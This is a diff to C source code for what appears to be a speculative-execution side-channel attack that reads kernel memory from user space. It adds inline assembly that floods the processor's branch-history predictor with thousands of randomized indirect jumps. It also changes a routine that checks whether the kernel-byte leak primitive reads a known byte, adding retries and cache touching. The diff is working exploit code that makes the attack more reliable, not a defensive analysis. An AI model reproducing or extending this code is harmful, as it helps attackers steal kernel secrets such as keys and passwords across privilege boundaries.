@@ -16,6 +16,7 @@
 #include <sys/mman.h>
 
 #include "attack.h"
+#include "channel.h"
 #include "fault.h"
 
 enum branch_kind { INDIRECT_JUMP, INDIRECT_CALL };
@@ -84,6 +85,38 @@ static inline void leave_history(uint64_t bits)
 		: "rcx", "cc");
 }
 
+/*
+ * Overwrites what the processor remembers of targets by history: so many indirect jumps, each after
+ * another history, that little else is left. What it predicts then does not depend on history.
+ */
+static inline void forget_histories(void)
+{
+	enum { JUMPS = 12000 };
+	uint64_t random = 88172645463325252, count = JUMPS, target, shifted;
+
+	__asm__ volatile(
+		"1: mov %[random], %[shifted]\n\t"
+		"shl $13, %[shifted]\n\t"
+		"xor %[shifted], %[random]\n\t"
+		"mov %[random], %[shifted]\n\t"
+		"shr $7, %[shifted]\n\t"
+		"xor %[shifted], %[random]\n\t"
+		"mov %[random], %[shifted]\n\t"
+		"shl $17, %[shifted]\n\t"
+		"xor %[shifted], %[random]\n\t"
+		"mov %[random], %[shifted]\n\t"
+		"and $7, %[shifted]\n\t"
+		"lea 2f(%%rip), %[target]\n\t"
+		"add %[shifted], %[target]\n\t"
+		"jmp *%[target]\n\t"
+		"2: .fill 7, 1, 0x90\n\t"
+		"dec %[count]\n\t"
+		"jnz 1b\n\t"
+		: [random] "+r"(random), [count] "+r"(count), [target] "=&r"(target), [shifted] "=&r"(shifted)
+		:
+		: "cc");
+}
+
 /* Marsaglia's xorshift. */
 static inline uint64_t next_random(void)
 {
@@ -95,14 +128,20 @@ static inline uint64_t next_random(void)
 	return random;
 }
 
-/* Whether what reads a byte at an address of the kernel reads the one that is known. */
-static inline int reads_known_byte(int (*read_byte)(uint64_t address))
+/*
+ * Whether what reads a byte at an address of the kernel reads the one that is known.
+ *
+ * @param known the byte as this process sees it; it is used before, as secrets are
+ */
+static inline int reads_known_byte(int (*read_byte)(uint64_t address), const uint8_t *known)
 {
-	enum { ATTEMPTS = 4 };
+	enum { ATTEMPTS = 6 };
 	int right = 0;
 
-	for (int i = 0; i < ATTEMPTS; i++)
+	for (int i = 0; i < ATTEMPTS && right < 2; i++) {
+		touch(known);
 		right += read_byte(options.known) == KNOWN_BYTE;
+	}
 	return right > 1;
 }
 
